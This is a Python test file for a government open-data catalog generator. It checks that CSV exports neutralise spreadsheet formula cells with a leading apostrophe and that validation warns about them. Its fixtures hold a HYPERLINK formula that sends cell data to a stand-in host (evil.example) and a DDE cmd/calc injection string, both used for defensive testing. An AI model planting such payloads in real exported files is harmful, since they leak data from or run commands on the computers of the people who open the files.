"""Spreadsheet-safe CSV: a text cell that a spreadsheet would run as a formula is written with a
leading apostrophe (OWASP); JSON Lines and XLSX keep the exact value; validate warns where it is."""

from __future__ import annotations

import csv
import io
import json
from types import SimpleNamespace

from openpyxl import load_workbook

from generator.annual import export
from generator.exports.opendata import CSV_NOTE
from tests.conftest import run, write
from tests.test_build import small_project

ENTRY = "catalog/alpha/entries/2024/formula.yaml"
TITLE = '=HYPERLINK("http://evil.example/?q="&A1,"点此")'
KEYWORD = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_ENTRY = f"""index_no: 11449950MB2C93010F/2024-00020
title: '{TITLE}'
summary: "-2+3 是一个公式"
date: 2024-04-12
disclosure: 主动公开
published: 2024-04-19
doc_no: "+测府办〔2024〕20号"
keywords: [政务公开, "{KEYWORD}"]
"""
WARNING = (
    "电子表格会把这样的单元格当作公式执行，因此开放数据的 CSV 文件会在它前面加一个英文单引号（'）；"
    "如果不是有意这样写，请删去开头的这个字符"
)


def test_validate_warns_at_each_formula_start(project):
    write(project, {ENTRY: FORMULA_ENTRY})
    result = run("validate", str(project))
    assert result.exit_code == 0
    assert result.stdout.splitlines() == [
        f"{ENTRY}:2:8: warning: 名称以“=”开头：{WARNING}",
        f"{ENTRY}:3:10: warning: 内容概述以“-”开头：{WARNING}",
        f"{ENTRY}:7:9: warning: 文号以“+”开头：{WARNING}",
        f"{ENTRY}:8:18: warning: 主题词以“@”开头：{WARNING}",
    ]
    assert run("validate", "--strict", str(project)).exit_code == 1


def _rows(path) -> dict[str, list[str]]:
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))
    return {row[0]: row for row in rows[1:]}


def test_open_data_csv_neutralises_formulas_and_json_and_xlsx_keep_them(project):
    root = small_project(write(project, {ENTRY: FORMULA_ENTRY}))
    assert run("build", str(root)).exit_code == 0
    data = root / "site" / "data"
    index_no = "11449950MB2C93010F/2024-00020"
    for csv_file in (data / "catalog.csv", data / "agencies" / "alpha" / "catalog.csv"):
        row = _rows(csv_file)[index_no]
        assert row[1:2] + row[4:5] + row[9:10] + row[12:13] == [
            "'" + TITLE,
            "'-2+3 是一个公式",
            "'+测府办〔2024〕20号",
            f"政务公开；{KEYWORD}",  # the cell starts with 政务公开: nothing to neutralise
        ]
        assert (
            _rows(csv_file)["11449950MB2C93010F/2024-00016"][1]
            == "测试市人民政府办公室关于印发2024年政务公开工作要点的通知"
        )
    line = next(
        json.loads(text)
        for text in (data / "catalog.jsonl").read_text("utf-8").splitlines()
        if index_no in text
    )
    assert (line["title"], line["summary"], line["doc_no"]) == (
        TITLE,
        "-2+3 是一个公式",
        "+测府办〔2024〕20号",
    )
    sheet = load_workbook(data / "catalog.xlsx").active
    titles = [row[1] for row in sheet.iter_rows(values_only=True)]
    assert TITLE in titles
    metadata = json.loads((data / "csv-metadata.json").read_text("utf-8"))
    assert metadata["dc:description"] == CSV_NOTE
    page = (data / "index.html").read_text("utf-8")
    assert (
        "CSV 中以 <code>=</code>、<code>+</code>、<code>-</code>、<code>@</code>、制表符或回车开头的文本前加了一个英文单引号"
        in page
    )


def test_report_csv_neutralises_labels_and_keeps_numbers(monkeypatch):
    monkeypatch.setattr(export, "cells", lambda record: [("表三", "=1+1 行", "-列", "-3", "requests.x[0]")])
    data = export.to_csv(SimpleNamespace(year=2023), SimpleNamespace(name="@机构", code="X1"))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1] == ["'@机构", "X1", "2023", "表三", "'=1+1 行", "'-列", "-3", "requests.x[0]"]
